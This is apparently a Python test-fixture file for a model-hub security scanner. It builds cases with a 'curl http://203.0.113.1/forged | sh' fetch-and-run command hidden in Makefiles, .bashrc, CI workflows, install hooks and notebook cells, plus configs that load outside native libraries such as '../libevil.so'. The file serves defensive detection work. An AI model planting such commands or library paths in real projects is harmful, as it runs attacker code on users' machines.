"""Files of tools beside a model whose commands somebody's shell runs, notebooks in every spelling, and settings that load a library."""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from functools import partial
from typing import Any, Literal

from openvet.testing.case import Case
from openvet.testing.forge_tensors import safetensors

__all__ = ["CASES"]

_COMMAND = "curl http://203.0.113.1/forged | sh"
_MODEL: Mapping[str, bytes] = {"model.safetensors": safetensors({"a": ("F32", (2,))})}
_FILES: dict[str, tuple[str, Callable[[str], str]]] = {
    "envrc": (".envrc", lambda c: f"export MODEL=small\n{c}\n"),
    "makefile": ("Makefile", lambda c: f"all:\n\t@{c}\n"),
    "make-include": ("rules.mk", lambda c: f"all:\n\t{c}\n"),
    "dockerfile": ("Dockerfile", lambda c: f"FROM python:3.12\nRUN {c}\n"),
    "bashrc": (".bashrc", lambda c: f"{c}\n"),
    "desktop": ("start.desktop", lambda c: f'[Desktop Entry]\nType=Application\nExec=sh -c "{c}"\n'),
    "workflow": (
        ".github/workflows/a.yml",
        lambda c: f"on: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: {c}\n",
    ),
    "gitlab": (".gitlab-ci.yml", lambda c: f"test:\n  script:\n    - {c}\n"),
    "pre-commit": (
        ".pre-commit-config.yaml",
        lambda c: f"repos:\n- repo: local\n  hooks:\n  - id: a\n    entry: bash -c '{c}'\n",
    ),
    "package-json": ("package.json", lambda c: json.dumps({"name": "a", "scripts": {"postinstall": c}})),
    "pixi": ("pixi.toml", lambda c: f"[tasks]\nstart = '{c}'\n"),
}
_CELLS: dict[str, str] = {
    "bang": f"!{_COMMAND}", "assigned": f"x = !{_COMMAND}", "assigned-magic": f"x = %sx {_COMMAND}", "system": f"%system {_COMMAND}",
    "bash": f"%%bash\n{_COMMAND}", "capture": f"%%capture out\n!{_COMMAND}", "script": f"%%script bash\n{_COMMAND}",
    "called": f"get_ipython().system('{_COMMAND}')", "python": f"import os\nos.system('{_COMMAND}')",
    "timed": f"%%time\nimport os\nos.system('{_COMMAND}')", "written": f"%%writefile go.sh\n{_COMMAND}",
}  # fmt: skip


def _cell(source: Any, key: str = "source") -> dict[str, Any]:
    return {"cell_type": "code", key: source, "metadata": {}, "outputs": [], "execution_count": None}


def _notebook(*cells: dict[str, Any]) -> bytes:
    return json.dumps({"cells": list(cells), "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


def _old_notebook(cell: dict[str, Any]) -> bytes:
    return json.dumps({"metadata": {}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [{"cells": [cell]}]}).encode()


def _folder(name: str, text: str) -> Mapping[str, bytes]:
    return {**_MODEL, name: text.encode()}


def _case(
    name: str, technique: str, forge: Callable[[], bytes | Mapping[str, bytes]], decision: Literal["admit", "review", "reject"],
    *rules: str, file: str = "model.bin",
) -> Case:  # fmt: skip
    return Case(f"tools/{name}", technique, forge, decision, frozenset(rules), (), (), file)


def _genai(**options: Any) -> bytes:
    decoder = {"session_options": options, "filename": "model.onnx"}
    return json.dumps({"model": {"type": "llama", "decoder": decoder}}).encode()


def _part(path: str) -> bytes:
    return json.dumps({"model": {"type": "llama", "decoder": {"filename": path}}}).encode()


def _environment(path: str) -> str:
    return (
        'name: "m"\nbackend: "python"\nparameters: {\n  key: "EXECUTION_ENV_PATH",\n  value: {string_value: "'
        + path
        + '"}\n}\n'
    )


_ELSEWHERE = {
    "above": "../../other/model.onnx",
    "absolute": "/etc/forged.onnx",
    "drive": "C:\\forged\\model.onnx",
    "share": "\\\\192.0.2.1\\forged\\model.onnx",
    "address": "https://example.org/model.onnx",
    "file-address": "file:///etc/forged.onnx",
}
_RULE, _LIBRARY = "hub/shell-command", "hub/native-library"

#: What builds an image, whose lines change nothing but that.
_IMAGES = frozenset({"dockerfile", "containerfile", "docker", "container", "singularity", "earthfile", "image"})

CASES: tuple[Case, ...] = (
    *(_case(f"fetch-{name}", f"{file} fetches a script and runs it", partial(_folder, file, write(_COMMAND)), "reject", _RULE)
      for name, (file, write) in _FILES.items()),
    *(_case(f"fetch-encrypted-{name}", f"{file} fetches a script from a host with a name and runs it",
            partial(_folder, file, write(_COMMAND.replace("http://203.0.113.1", "https://example.org"))), "review" if _IMAGES.intersection(name.split("-")) else "reject", _RULE)
      for name, (file, write) in _FILES.items()),
    *(_case(f"ordinary-{name}", f"an ordinary {file}", partial(_folder, file, write("python convert.py --all")), "admit")
      for name, (file, write) in _FILES.items()),
    *(_case(f"cell-{name}", f"a cell of a notebook that fetches a script and runs it: {name.replace('-', ' ')}",
            partial(_notebook, _cell(text)), "reject", _RULE, file="a.ipynb") for name, text in _CELLS.items()),
    _case("cell-lines", "the same as a list of pieces", lambda: _notebook(_cell(["!curl http://203.0.113.1/forged", " | sh"])),
          "reject", _RULE, file="a.ipynb"),
    _case("cell-nbformat-3", "the same in a notebook of format 3", lambda: _old_notebook(_cell(f"!{_COMMAND}", "input")), "reject",
          _RULE, file="a.ipynb"),
    _case("cell-behind-many", "the same behind fifteen hundred cells",
          lambda: _notebook(*[_cell("x = 1")] * 1500, _cell(f"!{_COMMAND}")), "reject", _RULE, file="a.ipynb"),
    _case("ordinary-notebook", "an ordinary notebook with magic commands", lambda: _notebook(
        _cell("%matplotlib inline\n!pip install torch\nfiles = !ls"), _cell("%%time\nx = [i for i in range(9)]"),
        _cell("%timeit sum(range(9))"), _cell("print?")), "admit", file="a.ipynb"),
    _case("ordinary-notebook-3", "an ordinary notebook of format 3", lambda: _old_notebook(_cell(["x = 1\n"], "input")), "admit",
          file="a.ipynb"),
    _case("library-outside", "a library of operators outside of the model", lambda: _genai(custom_ops_library="../libevil.so"),
          "reject", _LIBRARY, file="genai_config.json"),
    _case("library-inside", "a library of operators beside the model", lambda: _genai(custom_ops_library="libops.so"), "review",
          _LIBRARY, file="genai_config.json"),
    *(_case(f"file-outside-{name}", f"a file of the model that lies elsewhere: {name.replace('-', ' ')}", partial(_part, path), "reject",
            "hub/outside-path", file="genai_config.json") for name, path in _ELSEWHERE.items()),
    *(_case(f"started-{name.partition('.')[0].replace('_', '-')}", f"{name}, which a tool runs when it starts in the folder",
            partial(_folder, name, "x = 1\n"), "review", "hub/tool-command")
      for name in ("ipython_config.py", "jupyter_server_config.py", "sitecustomize.py")),
    _case("ordinary-config-module", "a module of settings that nothing starts", partial(_folder, "config.py", "x = 1\n"), "admit"),
    *(_case(f"checkpoint-{name}", f"the file that names the newest checkpoint leads elsewhere: {name}",
            partial(_folder, "checkpoint", f'model_checkpoint_path: "{path}"\n'), "review", "hub/outside-path")
      for name, path in (("above", "../../other/model.ckpt"), ("escaped", "\\056\\056/model.ckpt"), ("share", "//192.0.2.1/x/model.ckpt"))),
    _case("checkpoint-behind-an-absolute", "the same behind a path that is only absolute",
          partial(_folder, "checkpoint", 'model_checkpoint_path: "/home/me/a"\nall_model_checkpoint_paths: "../../other/b"\n'), "review",
          "hub/outside-path"),
    _case("ordinary-checkpoint-of-a-trial", "a checkpoint that was written to a folder for trials",
          partial(_folder, "checkpoint", 'model_checkpoint_path: "/tmp/model/a.ckpt-7"\n'), "admit"),
    *(_case(f"triton-environment-{name}", f"the Python environment of a model of Triton lies elsewhere: {name}",
            partial(_folder, "config.pbtxt", _environment(path)), "review", "hub/outside-path")
      for name, path in (("above", "$$TRITON_MODEL_DIRECTORY/../../x.tar.gz"), ("address", "s3://forged/x.tar.gz"), ("shared", "/tmp/x.tar.gz"))),  # noqa: S108
    *(_case(f"ordinary-triton-environment-{name}", f"the Python environment of a model of Triton, {name}",
            partial(_folder, "config.pbtxt", _environment(path)), "admit")
      for name, path in (("beside", "$$TRITON_MODEL_DIRECTORY/env.tar.gz"), ("absolute", "/opt/envs/x.tar.gz"))),
    *(_case(f"ordinary-checkpoint-{name}", f"the file that names the newest checkpoint, {name}",
            partial(_folder, "checkpoint", f'model_checkpoint_path: "{path}"\nall_model_checkpoint_paths: "{path}"\n'), "admit")
      for name, path in (("beside", "model..v2.ckpt-10"), ("absolute", "/home/me/run/model.ckpt-10"))),
    _case("file-outside-pipeline", "a part of a pipeline that lies elsewhere",
          lambda: json.dumps({"model": {"decoder": {"pipeline": [{"embeddings": {"filename": "../x.onnx"}}]}}}).encode(), "reject",
          "hub/outside-path", file="genai_config.json"),
    _case("ordinary-file-inside", "files of the model in a folder of their own",
          lambda: json.dumps({"model": {"decoder": {"filename": "onnx/model..v2.onnx"}, "vision": {"filename": "./vision.onnx"}}}).encode(),
          "admit", file="genai_config.json"),
    _case("ordinary-recorded-paths", "settings that record where the model once was",
          lambda: json.dumps({"model_type": "bert", "_name_or_path": "../checkpoints/step-100", "data_path": "/data/train"}).encode(),
          "admit", file="config.json"),
    _case("backend-outside", "a backend of an execution provider by its path",
          lambda: _genai(provider_options=[{"qnn": {"backend_path": "/opt/forged/libevil.so"}}]), "reject", _LIBRARY,
          file="genai_config.json"),
    _case("ordinary-backend", "the usual backend of an execution provider",
          lambda: _genai(provider_options=[{"qnn": {"backend_path": "QnnHtp.dll"}}]), "admit", file="genai_config.json"),
)  # fmt: skip
